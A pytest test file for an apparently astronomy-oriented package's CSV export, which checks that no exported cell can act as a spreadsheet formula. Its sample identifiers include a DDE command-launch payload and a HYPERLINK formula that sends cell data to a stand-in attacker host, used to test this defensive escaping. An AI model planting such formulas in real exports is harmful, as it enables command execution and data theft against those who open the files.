"""A run's table as CSV: what pandas reads back is what the run holds, and no cell is a formula."""

from __future__ import annotations

import base64
import csv
import gzip
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest

from galaxray.batches import text_array
from galaxray.catalog import open_catalog
from galaxray.config import ComputeConfig, RunConfig
from galaxray.errors import ConfigError, RunError
from galaxray.export import defuse, export_csv
from galaxray.plan import plan_run
from galaxray.runs import Run
from galaxray.schema import to_table

ROOT = Path(__file__).resolve().parents[2]
IDS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\tx",
    "\rx",
    "'quoted",
    "''=",
    "＝1",
    'he said "no", then',
    "line\nend",
    "J1234-5",
    "null",
    "银河",
    " = ",
]
ROWS = 40


def make_run(folder: str, tmp_path: Path, units: int = 2) -> Run:
    """A run of two units, whose identifiers are every trick in the book."""
    table = pd.DataFrame({"object_id": (IDS * 3)[:ROWS], "ra": np.arange(ROWS), "dec": -np.arange(ROWS) / 2})
    table.to_parquet(tmp_path / "cat.parquet")
    config = RunConfig(catalog=str(tmp_path / "cat.parquet"), output=folder, compute=ComputeConfig(rows_per_unit=32))
    run = plan_run(config, open_catalog(config.catalog), {}, versions={})
    for unit in range(units):
        batch = run.read_unit(unit)
        n = len(batch["row_index"])
        failed = batch["row_index"] % 5 == 4
        batch["status"] = text_array(["corrupt" if bad else "ok" for bad in failed])
        batch["error"] = text_array(["=bad, \x1b[2J" if bad else None for bad in failed])
        batch["attempts"] = np.ones(n, np.int16)
        batch["bar_strong_fraction"] = (-batch["row_index"] / 7).astype(np.float32)
        batch["embedding"] = np.stack([batch["row_index"], -batch["row_index"]], axis=1).astype(np.float32) / 3
        batch["bar_mask"] = text_array([None if bad else b"\x89PNG" + bytes([row]) for row, bad in enumerate(failed)])
        run.commit(unit, to_table(batch))
    return run


def rearm(text: str) -> str:
    """Undo what the export did, as the documentation says."""
    return text[1:] if text.startswith("'") else text


@pytest.mark.parametrize(("place", "suffix"), [("local", ".csv"), ("s3", ".csv.gz")])
def test_pandas_reads_back_what_the_run_holds(
    place: str, suffix: str, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    folder = str(tmp_path / "run") if place == "local" else request.getfixturevalue("s3_bucket") + "/run"
    run = make_run(folder, tmp_path)
    target = tmp_path / f"table{suffix}"
    assert export_csv(folder, str(target))[0] == ROWS
    found = pd.read_csv(target, keep_default_na=False, na_values={"bar_strong_fraction": [""], "error": [""]})
    assert list(found) == [
        *("row_index", "object_id", "ra_deg", "dec_deg", "status", "error", "attempts", "bar_strong_fraction"),
    ]
    expected = [row for unit in (0, 1) for row in run.read_unit(unit)["object_id"].tolist()]
    assert [rearm(text) for text in found["object_id"]] == expected
    ok = found["status"] == "ok"
    assert found["error"].isna().tolist() == ok.tolist()
    assert set(found["error"][~ok]) == {"'=bad, \x1b[2J"}
    assert found["row_index"].tolist() == list(range(ROWS))
    assert found["dec_deg"].tolist() == (-np.arange(ROWS) / 2).tolist()  # numbers stay numbers, also below 0
    assert found["bar_strong_fraction"].isna().tolist() == (~ok).tolist()
    numbers = found["bar_strong_fraction"][ok].to_numpy(np.float32)
    assert np.array_equal(numbers, (-np.arange(ROWS) / 7).astype(np.float32)[ok])


def test_no_text_begins_as_a_formula(tmp_path: Path) -> None:
    make_run(str(tmp_path / "run"), tmp_path)
    export_csv(str(tmp_path / "run"), str(tmp_path / "t.csv"), columns=["object_id", "error", "status"])
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert len(cells) == 3 * (ROWS + 1)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝"))]


def test_an_apostrophe_taken_away_gives_back_any_text() -> None:
    texts = [*IDS, "", None, "'", "a'b", "\n", "=", "1", "-"]
    changed = defuse(pa.array(texts, pa.string())).to_pylist()
    assert [text if text is None else rearm(text) for text in changed] == texts
    assert "J1234-5" in changed
    assert "1" in changed


def test_vectors_and_masks_come_where_they_are_named(tmp_path: Path) -> None:
    make_run(str(tmp_path / "run"), tmp_path)
    target = tmp_path / "t.csv"
    export_csv(str(tmp_path / "run"), str(target), columns=["row_index", "embedding", "bar_mask"], statuses=["ok"])
    found = pd.read_csv(target)
    assert list(found) == ["row_index", "embedding_0", "embedding_1", "bar_mask"]
    assert len(found) == ROWS * 4 // 5
    assert np.allclose(found["embedding_1"], -found["row_index"] / 3)
    assert base64.b64decode(found["bar_mask"][1]) == b"\x89PNG\x01"


@pytest.mark.parametrize(
    ("options", "reason"),
    [
        ({"columns": ["object_i"]}, "no column 'object_i'; did you mean object_id"),
        ({"columns": ["x"]}, "there are row_index"),
        ({"columns": []}, "one at least"),
        ({"columns": ["status", "status"]}, "each column once"),
        ({"statuses": ["good"]}, "no status 'good'"),
    ],
)
def test_what_cannot_be_exported_is_refused(tmp_path: Path, options: dict[str, list[str]], reason: str) -> None:
    make_run(str(tmp_path / "run"), tmp_path)
    (tmp_path / "t.csv").write_text("before")
    with pytest.raises(ConfigError, match=reason):
        export_csv(str(tmp_path / "run"), str(tmp_path / "t.csv"), **options)
    assert (tmp_path / "t.csv").read_text() == "before"
    assert not list(tmp_path.glob(".t.csv*"))


def test_folders_without_rows_and_targets_that_are_none(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="holds no run"):
        export_csv(str(tmp_path), str(tmp_path / "t.csv"))
    make_run(str(tmp_path / "run"), tmp_path, units=0)
    with pytest.raises(ConfigError, match="no rows yet"):
        export_csv(str(tmp_path / "run"), str(tmp_path / "t.csv"))
    make_run(str(tmp_path / "run"), tmp_path)
    for target in (str(tmp_path), "s3://bucket/t.csv", str(tmp_path / "nowhere" / "t.csv")):
        with pytest.raises(ConfigError, match=r"name a local file|cannot be written"):
            export_csv(str(tmp_path / "run"), target)


def test_a_damaged_unit_leaves_the_earlier_file(tmp_path: Path) -> None:
    run = make_run(str(tmp_path / "run"), tmp_path)
    (tmp_path / "t.csv").write_text("before")
    Path(run.output, "annotations", "unit-00000001.parquet").write_bytes(b"PAR1")
    with pytest.raises(RunError, match="unit-00000001"):
        export_csv(run.output, str(tmp_path / "t.csv"))
    assert (tmp_path / "t.csv").read_text() == "before"
    assert not list(tmp_path.glob(".t.csv*"))


def test_the_program(tmp_path: Path) -> None:
    def run(*arguments: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "pipelines/export_csv.py", *arguments]
        return subprocess.run(command, cwd=ROOT, capture_output=True, text=True, check=False)

    make_run(str(tmp_path / "run"), tmp_path, units=1)
    target = tmp_path / "t.csv.gz"
    done = run(str(tmp_path / "run"), str(target), "--columns", "object_id,status", "--status", "ok")
    assert (done.returncode, done.stdout) == (0, "")
    assert done.stderr == f"26 rows: {target}\nthe run is not finished: 32 of 40 rows are done\n"
    assert gzip.decompress(target.read_bytes()).startswith(b'"object_id","status"\n"\'=cmd|')
    for arguments in (["--status", "good"], ["--colums", "a"]):
        wrong = run(str(tmp_path / "run"), str(target), *arguments)
        assert wrong.returncode == 2
        assert wrong.stderr.count("\n") == 1
        assert wrong.stderr.startswith("error: ")
